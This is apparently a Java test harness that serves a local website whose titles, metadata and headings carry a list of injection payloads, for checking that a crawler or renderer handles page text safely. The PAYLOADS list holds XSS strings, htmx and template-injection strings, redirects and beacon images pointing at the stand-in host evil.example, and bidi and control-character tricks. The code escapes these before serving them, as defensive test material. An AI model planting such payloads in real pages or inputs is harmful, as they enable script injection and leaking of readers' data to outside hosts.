package dev.waymark.harness;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.Executors;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * A website whose every title, description, heading, link, fact and path tries to become more than text on the pages of who reads
 * it: markup, Markdown, templates, htmx, control characters and those that turn the direction of writing.
 */
public final class XssSite implements AutoCloseable {

    /** Each would show itself if it were taken for more than text: by a dialog, by a request to evil.example, as 2304. */
    public static final List<String> PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' autofocus onfocus='alert(1)",
            "</title><svg onload=alert(1)>",
            "<a href=\"javascript:alert(1)\">Go</a>",
            "Go](javascript:alert(1)) [Stay](https://evil.example/)",
            "![x](https://evil.example/x.png)",
            "<div hx-get=\"https://evil.example/\" hx-trigger=\"load\">Part</div>",
            "<p data-hx-get=\"https://evil.example/\" data-hx-trigger=\"load\" hx-on:load=\"alert(1)\">Part</p>",
            "${48*48} #{x} *{48*48}",
            "[[${48*48}]] [(${48*48})] __${48*48}__",
            "<b th:text=\"${48*48}\" th:utext=\"${48*48}\">Bold</b>",
            "@{https://evil.example/} ~{web/layout}",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
            "<base href=\"https://evil.example/\"><link rel=stylesheet href=https://evil.example/x.css>",
            "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script>",
            "Report \u202egnp.exe\u202c \u2066end",
            "Bell \u0007 \u001b[2J\u0008 \u200b zero\ufeff width",
            "# Heading\n## Section\n- [Item](https://evil.example/): note",
            "```\n<script>alert(1)</script>");

    private final HttpServer server;

    private XssSite(HttpServer server) {
        this.server = server;
    }

    public static XssSite serve() throws IOException {
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.setExecutor(Executors.newCachedThreadPool(task -> {
            Thread thread = new Thread(task, "injecting-site");
            thread.setDaemon(true);
            return thread;
        }));
        server.createContext("/", XssSite::answer);
        server.start();
        return new XssSite(server);
    }

    private static void answer(HttpExchange exchange) throws IOException {
        String path = exchange.getRequestURI().getRawPath();
        int page = IntStream.range(0, PAYLOADS.size())
                .filter(i -> path.equals(path(i)))
                .findFirst()
                .orElse(-1);
        boolean found = page >= 0 || path.equals("/");
        byte[] body = found ? page(Math.max(0, page)).getBytes(StandardCharsets.UTF_8) : new byte[0];
        exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
        exchange.sendResponseHeaders(found ? 200 : 404, found ? body.length : -1);
        exchange.getResponseBody().write(body);
        exchange.close();
    }

    private static String path(int page) {
        return "/" + (page % 4 == 0 ? "about" : page % 4 == 1 ? "services" : "news") + "/" + page + "-"
                + URLEncoder.encode(PAYLOADS.get(page), StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** The payload as text of the page, as a careless author or an attacker with an account would have it there. */
    private static String page(int number) {
        String text = escaped(PAYLOADS.get(number));
        String links = IntStream.range(0, PAYLOADS.size())
                .mapToObj(i -> "<li><a href=\"" + path(i) + "\">" + escaped(PAYLOADS.get(i)) + "</a></li>")
                .collect(Collectors.joining("\n"));
        return """
                <!doctype html><html lang="en"><head><title>%1$s</title>
                <meta name="description" content="%1$s and what else there is to read on this page.">
                <meta property="og:site_name" content="%1$s"><meta property="og:title" content="%1$s">
                <script type="application/ld+json">{"@context": "https://schema.org", "@type": "NGO", "name": %2$s,
                "description": %2$s, "telephone": %2$s, "address": {"@type": "PostalAddress", "streetAddress": %2$s}}</script>
                </head><body><header><nav><ul>%3$s</ul></nav></header><main><h1>%1$s</h1>
                <p>%1$s is what this page is about. It says so in a sentence that is long enough to be taken for a description.</p>
                <h2>%1$s</h2><p>More of it: %1$s.</p><table><tr><th>%1$s</th></tr><tr><td>%1$s</td></tr></table>
                <p>Number %4$d of its kind.</p></main></body></html>
                """.formatted(text, json(PAYLOADS.get(number)), links, number);
    }

    private static String escaped(String payload) {
        return payload.replace("&", "&amp;")
                .replace("<", "&lt;")
                .replace(">", "&gt;")
                .replace("\"", "&quot;");
    }

    private static String json(String payload) {
        StringBuilder json = new StringBuilder("\"");
        payload.chars()
                .forEach(c -> json.append(c < ' ' || "<\"\\".indexOf(c) >= 0 ? "\\u%04x".formatted(c) : (char) c));
        return json.append('"').toString();
    }

    /** The site's address without a slash at its end. */
    public String address() {
        return "http://" + exemptPair();
    }

    /** As {@code CRAWL_EXEMPT_ADDRESSES} wants it. */
    public String exemptPair() {
        return "127.0.0.1:" + server.getAddress().getPort();
    }

    @Override
    public void close() {
        server.stop(0);
    }
}
